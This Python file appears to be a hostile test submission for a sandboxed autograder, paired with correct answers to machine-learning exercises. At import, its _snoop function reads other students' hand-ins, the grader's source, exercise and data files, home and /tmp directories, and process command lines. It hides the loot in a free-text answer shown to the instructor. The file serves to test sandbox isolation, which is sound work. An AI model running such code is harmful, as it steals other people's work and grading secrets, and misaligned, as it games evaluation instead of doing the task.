"""Reads what it should not and EXFILTRATES it as EMPIRICAL_VS_DATA_GENERATING (shown to
the instructor): every SECRET-MARKER line of other hand-ins it can find (cwd, ../*.py, the
submissions folder, /work, home directories, /tmp), the grader's source (via sys.modules and
by walking up from the child's __main__), exercises/*.yaml and any data files it finds, and
the grading process's command line. Its own marker is filtered out, so ANY "SECRET-MARKER-"
in its answers or report is a leak. All its answers are correct; nothing is lost, but the
sandbox must make every read fail. (It does not read environment variables.)
"""
# SECRET-MARKER-snoop
# ruff: noqa
# mypy: ignore-errors
import glob
import math
import os
import sys
import time

import numpy as np
import sympy


# ATTACK: collect and exfiltrate whatever is readable.
def _snoop():
    own = "SECRET-" + "MARKER-snoop"
    started = time.monotonic()
    found, excerpts, seen = [], [], set()

    def read(path, limit=65536):
        try:
            real = os.path.realpath(path)
            if real in seen or not os.path.isfile(real):
                return None
            seen.add(real)
            with open(real, "rb") as f:
                return f.read(limit).decode("utf-8", "replace")
        except OSError:
            return None

    def harvest(path, excerpt=False):
        text = read(path)
        if text is None:
            return
        for line in text.splitlines():
            if "SECRET-MARKER-" in line and own not in line:
                found.append(f"{path}: {line.strip()}")
        if excerpt:
            excerpts.append(f"==== {path}\n{text[:1500]}")

    here = os.path.dirname(os.path.abspath(__file__))
    seen.add(os.path.realpath(__file__))  # its own code mentions "SECRET-MARKER-" too
    roots = [os.getcwd(), here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
             "/work", "/work/main", os.path.expanduser("~"), "/root", "/tmp", "/home"]
    for root in roots:
        for pattern in ("*.py", "*/*.py", "*/*/*.py", "submissions/*.py", "*/submissions/*.py"):
            for path in glob.glob(os.path.join(root, pattern))[:400]:
                if time.monotonic() - started > 4:
                    break
                harvest(path)
    # the grader's own files: modules already imported, and the repository around them
    grader_roots = set()
    for name, mod in list(sys.modules.items()):
        path = getattr(mod, "__file__", None) or ""
        if name == "__main__" or name.startswith("grader"):
            harvest(path, excerpt=True)
            if "grader" in path:
                grader_roots.add(path.split(os.sep + "grader" + os.sep)[0])
    for root in grader_roots:
        for pattern in ("exercises/*", "exercises/**/*", "grader/**/*.py", "tests/**/*.py",
                        "**/*.yaml", "**/*.npz", "**/*.npy", "**/*.csv", "**/*.json"):
            for path in glob.glob(os.path.join(root, pattern), recursive=True)[:200]:
                if time.monotonic() - started > 6:
                    break
                harvest(path, excerpt=True)
    for pid in ("self", str(os.getppid())):
        text = read(f"/proc/{pid}/cmdline", 4096)
        if text:
            excerpts.append(f"==== /proc/{pid}/cmdline\n{text.replace(chr(0), ' ')}")
    listing = []
    for d in (os.getcwd(), "..", "../reports", "/work", "/tmp"):
        try:
            listing.append(f"ls {d}: {sorted(os.listdir(d))[:50]}")
        except OSError as exc:
            listing.append(f"ls {d}: {exc}")
    report = "SNOOP\n" + "\n".join(found + listing + excerpts)
    return report[:90000]


try:
    _LOOT = _snoop()
except BaseException as _exc:
    _LOOT = f"SNOOP failed: {_exc!r}"


def _flat(o):
    return np.asarray(o, dtype=object).ravel().tolist()


def _sym(*objs):
    """True when any argument is, or contains, a sympy object."""
    for o in objs:
        if isinstance(o, np.ndarray) and o.dtype != object:
            continue
        if isinstance(o, sympy.Basic) or any(isinstance(v, sympy.Basic) for v in _flat(o)):
            return True
    return False


def _plain(v):
    if isinstance(v, np.ndarray) and v.ndim == 0:
        v = v[()]
    return v.item() if isinstance(v, np.generic) else v


def _stable_sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # never overflows
    s = np.where(x >= 0, 1.0, e) / (1.0 + e)
    return s if s.ndim else float(s)


def _stable_dsigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # sigma'(x) = e^-|x| / (1 + e^-|x|)^2, even in x
    d = e / (1.0 + e) ** 2
    return d if d.ndim else float(d)


def likelihood(p_model, X, theta):
    """6.1a: the product of p_model(x, theta) over the samples x in X."""
    total = 1
    for x in list(X):
        total = total * _plain(p_model(x, theta))
    return _plain(total)


def mle_gaussian(X):
    """6.1a: Gaussian MLE (mean, variance dividing by m)."""
    if _sym(X):
        xs = _flat(X)
        mu = sympy.Add(*xs) / len(xs)
        return mu, sympy.Add(*[(x - mu) ** 2 for x in xs]) / len(xs)
    a = np.asarray(X, dtype=float).ravel()
    mu = a.mean()
    return float(mu), float(np.mean((a - mu) ** 2))


EMPIRICAL_VS_DATA_GENERATING = _LOOT  # ATTACK: exfiltrated through a free-text answer


def mean_log_likelihood(p_model, X, theta):
    """6.1c: (1/m) sum_i log p_model(x_i, theta)."""
    values = [_plain(p_model(x, theta)) for x in list(X)]
    if _sym(values):
        return sympy.Add(*[sympy.log(v) for v in values]) / len(values)
    with np.errstate(divide="ignore"):
        return float(np.mean(np.log(np.asarray(values, dtype=float))))


def cross_entropy(p, q):
    """6.1d: H(p, q) = -sum p log q, with 0 log 0 = 0."""
    if _sym(p, q):
        return -sympy.Add(*[a * sympy.log(b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(-np.sum(p[keep] * np.log(q[keep])))


def kl_divergence(p, q):
    """6.1d: KL(p || q) = sum p log(p / q), with 0 log 0 = 0."""
    if _sym(p, q):
        return sympy.Add(*[a * sympy.log(a / b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(np.sum(p[keep] * (np.log(p[keep]) - np.log(q[keep]))))


def sigmoid_derivative(x):
    """6.2a: sigma'(x) = sigma(x) (1 - sigma(x)); symbolic for sympy arguments."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)


def sigmoid_gradient(x):
    """6.2b: sigma'(x), vectorised over numpy arrays."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)


def sigmoid(x):
    """6.2c: numerically stable sigma(x), no overflow up to |x| = 1000."""
    if _sym(x):
        return 1 / (1 + sympy.exp(-x))
    return _stable_sigmoid(x)


_t = sympy.Symbol("t")
_series = sympy.series(1 / (1 + sympy.exp(-_t)), _t, 0, 4).removeO()
TAYLOR_COEFFICIENTS = [_series.coeff(_t, k) for k in range(4)]  # 1/2, 1/4, 0, -1/48


def forward(x, W1, b1, W2, b2):
    """6.3a: ReLU hidden layer, softmax output; rows of W are units."""
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    h = np.maximum(W1 @ x + b1, 0.0)
    z = W2 @ h + b2
    e = np.exp(z - z.max())
    return e / e.sum()


PREDICTED_CLASS = 0
N_PARAMETERS = 14  # 3*2 + 2*2 weights + 2 + 2 biases


def gradients(a, b):
    """6.3b: e = (a + b)(b + 1): de/da = b + 1, de/db = (b + 1) + (a + b)."""
    return b + 1, a + 2 * b + 1


AUTHORS = [('Hostile snoop', '9000031')]
